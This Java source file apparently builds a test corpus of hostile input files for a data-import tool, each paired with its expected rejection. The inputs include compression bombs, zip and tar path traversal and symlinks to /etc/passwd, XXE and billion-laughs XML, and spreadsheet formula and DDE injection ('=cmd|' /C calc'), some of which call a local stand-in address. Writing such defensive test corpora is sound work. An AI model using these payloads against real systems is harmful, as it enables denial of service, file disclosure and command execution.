package dev.firebreak.assessment;

import static dev.firebreak.assessment.Archives.utf8;

import com.github.luben.zstd.ZstdOutputStream;
import dev.firebreak.ledger.DuckDb;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/// Files made to do harm, each with what becomes of it under the limits of operation.
/// docs/reference/assessment.md lists them by these names.
final class HostileCorpus {
  private static final byte[] GOOD = utf8("{\"user_id\":\"good\"}\n");
  private static final String HEADER =
      "<row r=\"1\"><c r=\"A1\" t=\"str\"><v>user_id</v></c></row>";
  private static final String GOOD_ROW = "<row r=\"2\"><c r=\"A2\" t=\"str\"><v>good</v></c></row>";

  private static final long MAKING_BYTES = 4L << 30;
  private static final int HUGE_ROWS_GROUP = 2048;

  private final List<Hostile> files = new ArrayList<>();
  private final String evil;

  /// @param evil an address on this machine where nobody may ask
  private HostileCorpus(String evil) {
    this.evil = evil;
  }

  /// A file of the corpus.
  ///
  /// @param understood rows that are read all the same
  /// @param rejected how many rows are rejected; -1 for some
  /// @param reasons what the reasons say, all together
  record Hostile(
      String name, byte[] content, long understood, long rejected, List<String> reasons) {
    @Override
    public String toString() {
      return name;
    }
  }

  /// @param folder for what needs one to be made
  static List<Hostile> files(Path folder, String evil) throws Exception {
    HostileCorpus corpus = new HostileCorpus(evil);
    corpus.bombs();
    corpus.names();
    corpus.archivesThatLie();
    corpus.cutOff();
    corpus.workbooks();
    corpus.encodings();
    corpus.rows();
    corpus.parquet(folder);
    return corpus.files;
  }

  private void add(String name, byte[] content, long understood, long rejected, String... reasons) {
    files.add(new Hostile(name, content, understood, rejected, List.of(reasons)));
  }

  private static Map<String, byte[]> parts(Object... namesAndContents) {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    for (int i = 0; i < namesAndContents.length; i += 2) {
      parts.put((String) namesAndContents[i], (byte[]) namesAndContents[i + 1]);
    }
    return parts;
  }

  private static byte[] concat(byte[]... pieces) {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    for (byte[] piece : pieces) {
      all.writeBytes(piece);
    }
    return all.toByteArray();
  }

  private static byte[] filled(int size, char with) {
    byte[] bytes = new byte[size];
    Arrays.fill(bytes, (byte) with);
    return bytes;
  }

  private void bombs() throws IOException {
    byte[] big = filled(96 << 20, '\n');
    add("bomb.json.zst", concat(Archives.zstd(GOOD), Archives.zstd(big)), 1, 1, "a bomb");
    byte[] twice = Archives.gzip(Archives.gzip(concat(GOOD, big)));
    add("bomb-in-bomb.json.gz.gz", twice, 1, 1, "a bomb");
    byte[] deflated = Archives.gzip(big);
    Map<String, byte[]> zip = parts("good.json", GOOD, "bomb.json.gz", deflated);
    add("bomb-in-zip.zip", Archives.zip(zip), 1, -1, "a bomb");
    byte[] nested = GOOD;
    for (int i = 0; i < 12; i++) {
      nested = Archives.zip(parts("good.json", GOOD, "inner.zip", nested));
    }
    // layers 1 to 6 are opened, with a good row in each
    add("zip-in-zip.zip", nested, 6, 1, "more than 6 layers");
    add("quine.tar", quine(), 0, -1);
  }

  /// A tar whose only file claims to be the tar itself, again and again.
  private static byte[] quine() {
    byte[] header = Archives.header("self.tar", 512L * 40, '0');
    byte[][] all = new byte[40][];
    Arrays.fill(all, header);
    return concat(all);
  }

  private void names() throws IOException {
    Map<String, byte[]> names =
        parts(
            "../outside.json", GOOD,
            "../../../../../../../../tmp/firebreak-outside.json", GOOD,
            "/firebreak-outside.json", GOOD,
            "C:\\outside.json", GOOD,
            "a\u202eb\n\u0007.json", GOOD,
            "ada@example.com.json", GOOD);
    add("traversal.zip", Archives.zip(names), 6, 0);
    byte[] links =
        concat(
            Archives.header("link", 0, '2', "/etc/passwd"),
            Archives.header("hard", 0, '1', "../../outside.json"),
            Archives.header("device", 0, '3'),
            Archives.header("pipe", 0, '6'));
    add("traversal.tar", concat(links, Archives.tar(names)), 6, 4, "a link or no plain file");
    Map<String, byte[]> workbook = Archives.workbookParts(HEADER + GOOD_ROW, "");
    workbook.put("../../outside.json", GOOD);
    workbook.put("/xl/worksheets/../../../outside.xml", GOOD);
    workbook.put("xl/externalLinks/_rels/externalLink1.xml.rels", utf8(external()));
    add("traversal.xlsx", Archives.zip(workbook), 1, 0);
  }

  private String external() {
    return "<Relationships><Relationship Id=\"rId1\" TargetMode=\"External\" Target=\"%s\"/>"
            .formatted(evil)
        + "</Relationships>";
  }

  private void archivesThatLie() throws IOException {
    byte[] stored = Archives.storedZip(parts("good.json", GOOD));
    int list = new String(stored, StandardCharsets.ISO_8859_1).indexOf("PK\u0001\u0002");
    int end = new String(stored, StandardCharsets.ISO_8859_1).indexOf("PK\u0005\u0006");
    byte[][] overlapping = new byte[102][];
    Arrays.fill(overlapping, Arrays.copyOfRange(stored, list, end));
    overlapping[0] = Arrays.copyOf(stored, list);
    overlapping[101] = Arrays.copyOfRange(stored, end, stored.length);
    add("overlapping.zip", concat(overlapping), 1, 1, "its list names 100 files, and 1 were there");
    byte[] sizes = stored.clone();
    sizes[18] = (byte) 0xff;
    sizes[19] = (byte) 0xff;
    add("lying-size.zip", sizes, 0, 2, "ends here");
    byte[] locked = Archives.storedZip(parts("locked.json", GOOD, "good.json", GOOD));
    locked[6] |= 1;
    add("encrypted.zip", locked, 1, 1, "encrypted");
    add("two-zips.zip", concat(stored, stored), 1, 1, "something follows its end");
    byte[] tar = Archives.tar(parts("good.json", GOOD));
    add("two-tars.tar", concat(tar, tar), 2, 0);
    byte[] huge = Archives.header("huge.json", 1L << 32, '0');
    add("lying-size.tar", concat(huge, GOOD), 1, 2, "ends here");
    byte[] members = concat(Archives.gzip(GOOD), Archives.gzip(GOOD), Archives.gzip(GOOD));
    add("members.json.gz", members, 3, 0);
    add("trailing.json.gz", concat(members, utf8("garbage")), 3, 1, "what follows its end");
    byte[] frames = concat(Archives.zstd(GOOD), Archives.zstd(GOOD));
    add("frames.json.zst", frames, 2, 0);
    add("trailing.json.zst", concat(frames, utf8("garbage garbage")), 2, 1, "damaged");
    byte[] sum = Archives.gzip(GOOD);
    sum[sum.length - 8] ^= 1;
    add("checksum.json.gz", sum, 1, 1, "checksum differs");
  }

  private void cutOff() throws IOException {
    byte[] rows =
        utf8(
            IntStream.range(0, 20_000)
                .mapToObj(i -> "{\"user_id\":\"%x\"}\n".formatted(i * 7919L))
                .collect(Collectors.joining()));
    Map<String, byte[]> files = parts("good.json", GOOD, "rows.json", rows);
    add("cut.json.gz", half(Archives.gzip(concat(GOOD, rows))), -1, 1, "ends here");
    add("cut.json.zst", half(Archives.zstd(concat(GOOD, rows))), -1, 1, "ends here");
    add("cut.zip", half(Archives.zip(files)), -1, -1, "ends here");
    add("cut.tar", half(Archives.tar(files)), -1, -1, "ends here");
    byte[] damaged = Archives.gzip(rows);
    Arrays.fill(damaged, damaged.length / 4, damaged.length / 4 + 1_000, (byte) 0xff);
    Map<String, byte[]> member = parts("rows.json.gz", damaged, "good.json", GOOD);
    add("damaged-member.zip", Archives.zip(member), -1, -1, "damaged");
    byte[] workbook = Archives.workbook(HEADER + GOOD_ROW.repeat(20_000), "");
    add("cut.xlsx", half(workbook), -1, -1, "");
  }

  private static byte[] half(byte[] whole) {
    return Arrays.copyOf(whole, whole.length / 2);
  }

  private void workbooks() throws IOException {
    String xml = "<?xml version=\"1.0\"?>";
    String entities =
        "<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\"><!ENTITY h SYSTEM \"%s\">"
                .formatted(evil)
            + "<!ENTITY % p SYSTEM \""
            + evil
            + "\">%p;]>";
    add("xxe.xlsx", sheet(xml + entities, "&f;&h;"), 0, 1, "entities");
    StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY l0 \"lol\">");
    for (int i = 1; i < 12; i++) {
      laughs.append("<!ENTITY l%d \"%s\">".formatted(i, ("&l" + (i - 1) + ";").repeat(10)));
    }
    add("billion-laughs.xlsx", sheet(xml + laughs.append("]>"), "&l11;"), 0, 1, "entities");
    String formulas =
        "<row r=\"2\"><c r=\"A2\" t=\"str\"><f>WEBSERVICE(\"%s\")</f><v>good</v></c></row>"
            .formatted(evil);
    add("formula.xlsx", Archives.workbook(HEADER + formulas, ""), 1, 0);
    String text = "<si><t>" + "t".repeat(1 << 20) + "</t></si>";
    StringBuilder many = new StringBuilder("<row r=\"3\">");
    for (char c = 'A'; c <= 'Z'; c++) {
      many.append("<c r=\"").append(c).append("3\" t=\"s\"><v>0</v></c>");
    }
    String blown = HEADER + GOOD_ROW + many + "</row>";
    add("shared-text.xlsx", Archives.workbook(blown, text), 1, 1, "longer than 16777216 bytes");
    String deep = HEADER + GOOD_ROW + "<a>".repeat(100_000);
    add("deep-tags.xlsx", Archives.workbook(deep, ""), 1, 1, "too deep");
    String far = HEADER + GOOD_ROW + "<row r=\"3\"><c r=\"ZZZ3\" t=\"str\"><v>x</v></c></row>";
    add("far-column.xlsx", Archives.workbook(far, ""), 1, 1, "more than 16384 columns");
  }

  private static byte[] sheet(String prolog, String value) throws IOException {
    Map<String, byte[]> parts = Archives.workbookParts("", "");
    String rows = HEADER + "<row r=\"2\"><c r=\"A2\" t=\"str\"><v>" + value + "</v></c></row>";
    parts.put(
        "xl/worksheets/sheet1.xml",
        utf8(prolog + "<worksheet><sheetData>" + rows + "</sheetData></worksheet>"));
    return Archives.zip(parts);
  }

  private void encodings() {
    String csv = "user_id,city\nu-1,K\u00f8benhavn\nu-2,Malm\u00f6\n";
    add("utf16-without-mark.csv", csv.getBytes(StandardCharsets.UTF_16LE), 2, 0);
    byte[] latin = "u-3,\u00c5rhus\n".getBytes(StandardCharsets.ISO_8859_1);
    add("latin1-in-utf8.csv", concat(utf8(csv), latin), 3, 0);
    byte[] wide = "{\"user_id\":\"wide\"}\n".getBytes(StandardCharsets.UTF_16LE);
    byte[] mixed = concat(GOOD, latinJson(), wide, GOOD);
    add("mixed-encodings.json", mixed, 3, 1, "broken JSON");
    add("nuls.json", concat(GOOD, utf8("\0\0\0\n"), GOOD), 2, 1, "broken JSON");
    add("nuls.csv", utf8("user_id,note\nu-1,a\0b\n\0,\0\nu-2,x\n"), 3, 0);
    add("zeros.bin", new byte[1 << 20], 0, 1, "neither text nor a format");
    byte[] noise = new byte[1 << 16];
    new Random(1).nextBytes(noise);
    noise[0] = 'x';
    add("noise.bin", noise, 0, 1, "neither text nor a format");
  }

  private static byte[] latinJson() {
    return "{\"user_id\":\"u\",\"city\":\"\u00c5rhus\"}\n".getBytes(StandardCharsets.ISO_8859_1);
  }

  private void rows() throws IOException {
    String asking = "u-1,\"=WEBSERVICE(\"\"" + evil + "\"\")\"\n";
    String cells = "user_id,note\n" + asking + "u-2,\"=cmd|' /C calc'!A0\"\nu-3,@SUM(1)\n";
    add("formula.csv", utf8(cells), 3, 0);
    byte[] longLine = concat(utf8("{\"user_id\":\""), filled(24 << 20, 'x'), utf8("\"}\n"));
    add("long-line.json.gz", Archives.gzip(concat(GOOD, longLine, GOOD)), 2, 1, "longer than 16");
    add("gigabyte-line.json.zst", gigabyteLine(), 2, 1, "longer than 16777216 bytes");
    byte[] longCell = concat(utf8("user_id,note\nu-1,x\nu-2,"), filled(24 << 20, 'x'));
    add("long-line.csv.gz", Archives.gzip(concat(longCell, utf8("\nu-3,x\n"))), 2, 1, "longer");
    String wide =
        IntStream.range(0, 100_000).mapToObj(i -> "c" + i).collect(Collectors.joining(","));
    add("wide.csv", utf8(wide + "\n" + wide + "\n"), 0, 2, "more than 20000 columns");
    byte[] deep = utf8("{\"a\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}\n");
    add("deep.json", concat(GOOD, deep, GOOD), 2, 1, "deeper than 100 levels");
    byte[] array = concat(utf8("["), GOOD, utf8(","), deep, utf8(","), GOOD, utf8("]"));
    add("deep-array.json", array, 2, 1, "deeper than 100 levels");
    String many = "{\"user_id\":\"u\",\"a\":[" + "1,".repeat(200_000) + "1]}\n";
    add("many-values.json", concat(GOOD, utf8(many), GOOD), 2, 1, "more than 100000 values");
    StringBuilder keys = new StringBuilder();
    IntStream.range(0, 30_000)
        .forEach(i -> keys.append("{\"user_id\":\"u\",\"k").append(i).append("\":1}\n"));
    add("endless-keys.json", utf8(keys.toString()), 30_000, 0);
    String open = "user_id,note\n" + "u-1,\"open\n".repeat(1) + "u-2,x\n".repeat(60_000);
    add("open-quote.csv", utf8(open), 60_000, 1, "a quoted field does not end");
    add("mixed-kinds.json", concat(GOOD, utf8("user_id,email\n<html>\n"), GOOD), 2, 2, "broken");
  }

  /// A row of a gibibyte between two good ones, packed less than a bomb is.
  private static byte[] gigabyteLine() throws IOException {
    byte[] piece = filled(1 << 20, 'x');
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (OutputStream out = new ZstdOutputStream(packed, 1)) {
      out.write(concat(GOOD, utf8("{\"user_id\":\"")));
      Random random = new Random(1);
      for (int i = 0; i < 1024; i++) {
        for (int j = 0; j < 4096; j++) {
          piece[j] = (byte) ('a' + random.nextInt(26));
        }
        out.write(piece);
      }
      out.write(concat(utf8("\"}\n"), GOOD));
    }
    return packed.toByteArray();
  }

  private void parquet(Path folder) throws Exception {
    Path file = folder.resolve("p.parquet");
    try (DuckDb database = DuckDb.open(folder, DuckDb.MEMORY_BYTES_MIN, 1, List.of())) {
      database.execute(
          "COPY (SELECT 'u-' || i AS user_id FROM range(3000) t(i)) TO "
              + DuckDb.literal(file)
              + " (FORMAT parquet, COMPRESSION uncompressed)");
    }
    byte[] sound = Files.readAllBytes(file);
    Files.delete(file);
    parquetBombs(folder);
    add("cut.parquet", half(sound), 0, 1, "cut off");
    byte[] footer = sound.clone();
    int at = footerAt(sound);
    Arrays.fill(footer, at, sound.length - 8, (byte) 0x19);
    add("lying-footer.parquet", footer, 0, 1, "Parquet");
    // 3 000 as a zigzag number: the counts of rows in the footer
    int lies = 0;
    for (int i = at; i < sound.length - 9; i++) {
      if (sound[i] == (byte) 0xf0 && sound[i + 1] == 0x2e) {
        byte[] lying = sound.clone();
        lying[i] = (byte) 0xe0;
        lying[i + 1] = 0x0f;
        add("lying-rows-" + ++lies + ".parquet", lying, -1, -1);
      }
    }
    byte[] length = sound.clone();
    Arrays.fill(length, sound.length - 8, sound.length - 5, (byte) 0xff);
    add("lying-length.parquet", length, 0, 1, "too large");
  }

  /// A column of one value takes nothing in the file, however often and however long it is.
  private void parquetBombs(Path folder) throws Exception {
    byte[] many =
        parquet(folder, "SELECT repeat('u', 300) AS user_id FROM range(2000000)", 1 << 17);
    add("bomb-of-rows.parquet", many, -1, 1, "a bomb", "its list names 2000000 rows");
    byte[] wide =
        parquet(folder, "SELECT repeat('u', 1000000) AS user_id FROM range(1500)", HUGE_ROWS_GROUP);
    add("huge-rows.parquet", wide, -1, 1, "its list names 1500 rows");
  }

  private static byte[] parquet(Path folder, String rows, int groupRows) throws Exception {
    Path file = folder.resolve("p.parquet");
    try (DuckDb database = DuckDb.open(folder, MAKING_BYTES, 1, List.of())) {
      database.execute(
          "COPY ("
              + rows
              + ") TO "
              + DuckDb.literal(file)
              + " (FORMAT parquet, COMPRESSION zstd, ROW_GROUP_SIZE "
              + groupRows
              + ")");
    }
    byte[] bytes = Files.readAllBytes(file);
    Files.delete(file);
    return bytes;
  }

  private static int footerAt(byte[] parquet) {
    int length = 0;
    for (int i = 3; i >= 0; i--) {
      length = (length << 8) | (parquet[parquet.length - 8 + i] & 0xff);
    }
    return parquet.length - 8 - length;
  }
}
